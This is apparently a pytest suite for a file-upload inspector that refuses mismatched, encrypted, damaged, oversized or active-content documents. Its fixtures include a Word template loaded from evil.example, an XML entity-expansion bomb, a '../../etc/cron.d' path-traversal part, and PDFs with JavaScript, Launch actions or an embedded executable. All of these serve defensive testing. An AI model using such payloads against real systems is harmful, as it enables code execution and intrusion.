"""Files are judged by their content: what may run, is encrypted, damaged or another type than said is refused."""

from __future__ import annotations

import io
from dataclasses import replace
from typing import Any

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from shared.files import inspect
from shared.files.refusals import (
    FileHasActiveContent,
    FileHasTooManyPages,
    FileIsDamaged,
    FileIsEmpty,
    FileIsEncrypted,
    FileIsTooLarge,
    FileNameSaysAnother,
    FileNameUnfit,
    FileTypeNotTaken,
)
from tests.registry.papers import FILES, pdf, picture, with_parts, word, workbook, written

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
WORD_MACROS = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'  # noqa: E501


def test_each_type_is_told_by_its_content_and_keeps_its_name() -> None:
    for content, name, type_, pages in (
        (pdf("甲", 3), "分支机构管理办法（2024）.pdf", "pdf", 3),
        (word("甲"), "管理办法 v1.2", "docx", None),
        (workbook(), "名单.XLSX", "xlsx", None),
        (picture(), "a.png", "png", None),
        (picture("JPEG"), "../../etc/a.jpeg", "jpg", None),
    ):
        checked = inspect(content, name, FILES)
        assert (checked.type, checked.name, checked.pages, checked.size) == (type_, name, pages, len(content))


def test_a_file_that_says_another_type_than_it_is_is_refused() -> None:
    for content, name in ((word("甲"), "a.pdf"), (pdf("甲"), "a.docx"), (picture(), "a.jpg"), (pdf("甲"), "a.exe")):
        with pytest.raises(FileNameSaysAnother):
            inspect(content, name, FILES)
    for content in (b"MZ\x90\x00" + bytes(200), b"<html><script>", OLE + bytes(600), b"GIF89a" + bytes(20), b"\x00"):
        with pytest.raises(FileTypeNotTaken):
            inspect(content, "a.pdf", FILES)
    with pytest.raises(FileTypeNotTaken):
        inspect(with_parts(workbook(), {})[:0] + _zip_of_text(), "a.docx", FILES)
    with pytest.raises(FileTypeNotTaken):
        inspect(workbook(), "a.xlsx", replace(FILES, types=("pdf", "docx")))


def _zip_of_text() -> bytes:
    import zipfile

    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as package:
        package.writestr("a.txt", "a")
    return made.getvalue()


@pytest.mark.parametrize("name", ["", "  ", "a\nb.pdf", "a\x00.pdf", "a\u2028.pdf", "a" * 256])
def test_a_name_that_could_not_be_shown_is_refused(name: str) -> None:
    with pytest.raises(FileNameUnfit):
        inspect(pdf("甲"), name, FILES)


def test_an_empty_a_large_and_a_long_file_are_refused() -> None:
    with pytest.raises(FileIsEmpty):
        inspect(b"", "a.pdf", FILES)
    with pytest.raises(FileIsTooLarge):
        inspect(bytes(1001), "a.pdf", replace(FILES, max_bytes=1000))
    with pytest.raises(FileHasTooManyPages):
        inspect(pdf("甲", 3), "a.pdf", replace(FILES, max_pages=2))
    with pytest.raises(FileIsDamaged, match="unpacks"):
        inspect(
            with_parts(word("甲"), {"word/media/a.bin": bytes(100_000)}),
            "a.docx",
            replace(FILES, max_unpacked_bytes=99_999),
        )


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/activeX/activeX1.xml": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"[Content_Types].xml": WORD_MACROS},
        {
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        },
    ],
    ids=lambda parts: next(iter(parts)),
)
def test_a_document_with_macros_objects_or_a_template_from_elsewhere_is_refused(parts: dict[str, bytes]) -> None:
    with pytest.raises(FileHasActiveContent):
        inspect(with_parts(word("甲"), parts), "a.docx", FILES)


def test_a_document_that_points_out_of_its_package_or_expands_without_end_is_refused() -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
    for parts in ({"../../etc/cron.d/x": b"x"}, {"[Content_Types].xml": bomb}):
        with pytest.raises(FileIsDamaged):
            inspect(with_parts(word("甲"), parts), "a.docx", FILES)


def test_files_under_a_password_are_refused() -> None:
    protected = written(pdf("甲"), lambda writer: writer.encrypt("secret", algorithm="RC4-128"))
    package = OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le")
    for content, name in ((protected, "a.pdf"), (package, "a.docx")):
        with pytest.raises(FileIsEncrypted):
            inspect(content, name, FILES)


def _opens_with(action: str) -> Any:
    def change(writer: Any) -> None:
        step = DictionaryObject({NameObject("/S"): NameObject(action), NameObject("/JS"): TextStringObject("1")})
        writer.root_object[NameObject("/OpenAction")] = step

    return change


def _named_script(writer: Any) -> None:
    scripts = DictionaryObject({NameObject("/Names"): ArrayObject()})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})


@pytest.mark.parametrize(
    "change",
    [
        _opens_with("/JavaScript"),
        _opens_with("/Launch"),
        _named_script,
        lambda writer: writer.add_attachment("a.exe", b"MZ"),
    ],
    ids=["javascript", "launch", "named script", "attachment"],
)
def test_a_pdf_that_runs_something_or_hides_a_file_is_refused(change: Any) -> None:
    with pytest.raises(FileHasActiveContent):
        inspect(written(pdf("甲"), change), "a.pdf", FILES)
    assert inspect(written(pdf("甲"), _opens_with("/GoTo")), "a.pdf", FILES).pages == 1


def test_whatever_is_cut_off_or_spoiled_is_refused_and_never_a_fault_of_ours() -> None:
    for content, name in (
        (pdf("甲", 2), "a.pdf"),
        (word("甲"), "a.docx"),
        (workbook(), "a.xlsx"),
        (picture(), "a.png"),
    ):
        for end in (len(content) // 3, len(content) * 2 // 3):
            with pytest.raises((FileIsDamaged, FileTypeNotTaken)):
                inspect(content[:end], name, FILES)
    spoiled = bytearray(word("甲"))
    spoiled[len(spoiled) // 2] ^= 0xFF
    with pytest.raises(FileIsDamaged):
        inspect(bytes(spoiled), "a.docx", FILES)
